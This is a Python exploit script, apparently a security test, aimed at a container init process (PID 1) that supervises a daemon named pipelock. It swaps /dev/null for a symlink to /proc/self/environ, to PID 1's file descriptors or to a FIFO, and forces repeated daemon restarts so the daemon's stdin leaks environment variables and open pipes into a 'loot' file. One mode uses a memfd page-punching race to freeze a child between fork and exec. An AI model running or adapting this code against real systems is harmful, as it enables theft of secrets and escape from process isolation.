"""Puts something in the place of /dev/null, has PID 1 start pipelock again and again, and looks at pipelock's stdin.

null_device.py KIND ATTEMPTS: KIND is a path to link to; `environ` for the environment of a process between fork and
exec, kept readable after the exec; `descriptors` for each of PID 1's in turn; or `fifo`. pipelock adds what it can
read from stdin to /run/place/loot. "done" in /run/place/report when all attempts have been made.
"""

import ctypes
import json
import mmap
import os
import signal
import sys
import time
from collections.abc import Callable

PLACE = "/run/place"
SIZE = 256 << 20
PAGE = 4096
PUNCH_HOLE_KEEP_SIZE = 3
libc = ctypes.CDLL(None, use_errno=True)
libc.fallocate.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_long, ctypes.c_long]


def replace_null(target: str) -> None:
    os.symlink(target, "/dev/null.new")
    os.rename("/dev/null.new", "/dev/null")


def pid_of_pipelock() -> int:
    with open(os.environ["SIDECAR_STATUS_FILE"]) as file:
        return next(row["pid"] or 0 for row in json.load(file)["daemons"] if row["name"] == "pipelock")


def count(*kinds: str) -> int:
    """How many such events of pipelock there are."""
    try:
        with open(os.environ["SIDECAR_EVENTS_FILE"]) as file:
            return sum('"daemon": "pipelock"' in line and any(kind in line for kind in kinds) for line in file)
    except FileNotFoundError:
        return 0


def starts() -> int:
    return count("started", "failed")


def wait_while(condition: Callable[[], bool]) -> None:
    """For three seconds at most."""
    deadline = time.monotonic() + 3
    while condition() and time.monotonic() < deadline:
        time.sleep(0.005)


def restart_pipelock() -> None:
    before = starts()
    os.kill(1, signal.SIGUSR1)
    wait_while(lambda: starts() == before)


class Holder:
    """Keeps the address space alive that the next child of PID 1 has before its exec, with its environment in it.

    A process that reads /proc/PID/cmdline holds it until the bytes are copied. The copy waits while the page that it
    goes to is being punched out of its file: for many milliseconds, if it is one of very many.
    """

    def __init__(self) -> None:
        self._file = os.memfd_create("pages")
        os.ftruncate(self._file, SIZE)
        self._pages = memoryview(mmap.mmap(self._file, SIZE))

    def hold_next(self) -> None:
        libc.fallocate(self._file, 0, 0, SIZE)
        go, wait = os.pipe()
        puncher = os.fork()
        if puncher == 0:
            os.read(go, 1)
            libc.fallocate(self._file, PUNCH_HOLE_KEEP_SIZE, 0, SIZE)
            os._exit(0)
        last = puncher
        os.kill(1, signal.SIGUSR1)
        cmdline = self._open_next(last)
        os.write(wait, b"x")
        # The child must have opened its stdin, and must not have been executed yet.
        try:
            for page in range(SIZE // PAGE - 1, 0, -1):
                if b"sidecar_init" not in os.pread(cmdline, PAGE, 0):
                    break
                os.preadv(cmdline, [self._pages[page * PAGE : (page + 1) * PAGE]], 0)
        except ProcessLookupError:
            pass  # it has exited already
        os.waitpid(puncher, 0)
        for fd in (go, wait, cmdline):
            os.close(fd)

    def _open_next(self, last: int) -> int:
        deadline = time.monotonic() + 2
        while time.monotonic() < deadline:
            for pid in range(last + 1, last + 6):
                try:
                    return os.open(f"/proc/{pid}/cmdline", os.O_RDONLY)
                except FileNotFoundError:
                    continue
        return os.open("/dev/zero", os.O_RDONLY)


def attack(kind: str, attempts: int) -> None:
    if kind == "environ":
        replace_null("/proc/self/environ")
        holder = Holder()
        for _ in range(attempts):
            holder.hold_next()
    elif kind == "descriptors":
        for _ in range(attempts):
            for number in range(30, 0, -1):  # daemons' pipes are the higher ones; without the lower ones PID 1 ends
                replace_null(f"/proc/self/fd/{number}")
                restart_pipelock()
                time.sleep(0.05)
    elif kind == "fifo":
        os.mkfifo("/dev/null.new")
        os.rename("/dev/null.new", "/dev/null")
        for _ in range(attempts):
            restart_pipelock()
    else:
        replace_null(kind)
        for _ in range(attempts):
            restart_pipelock()
            wait_while(lambda: count("exited") < starts())  # the next restart would end it before it has read


if __name__ == "__main__":
    refused = ""
    while not starts():
        time.sleep(0.005)
    try:
        attack(sys.argv[1], int(sys.argv[2]))
    except OSError as error:
        refused = f"{error.strerror}"
    with open(f"{PLACE}/report.new", "w") as report:
        report.write(refused or "done")
    os.rename(f"{PLACE}/report.new", f"{PLACE}/report")
    signal.pause()
